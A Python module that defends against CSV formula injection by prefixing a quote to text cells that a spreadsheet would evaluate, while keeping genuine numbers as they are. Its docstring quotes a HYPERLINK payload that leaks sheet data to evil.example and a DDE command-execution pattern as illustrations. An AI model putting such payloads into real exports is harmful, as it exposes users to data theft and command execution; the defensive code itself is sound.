"""CSV cells a spreadsheet will not run: formula injection neutralised as OWASP advises.

A cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula to Excel,
LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example?"&A1, "Click")` leaks the
sheet; `=cmd|...` ran commands through DDE): such a text cell gets a leading `'`, which the
spreadsheet shows as text and does not keep in the value. Genuine numbers stay numbers, so an
amount such as `-12.50` (or `-12,50` with decimal commas) is written as it is.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"^[+-]?[0-9]+([.,][0-9]+)?$")


class _Writer(Protocol):
    def writerow(self, row: Iterable[Any], /) -> Any: ...


def neutralise(cell: Any) -> Any:
    """The cell as written: a text cell that a spreadsheet would evaluate, prefixed with `'`."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(cell):
        return "'" + cell
    return cell


class FormulaSafeWriter:
    """A csv writer whose every row goes through `neutralise`."""

    __slots__ = ("_writer",)

    def __init__(self, writer: _Writer) -> None:
        self._writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])
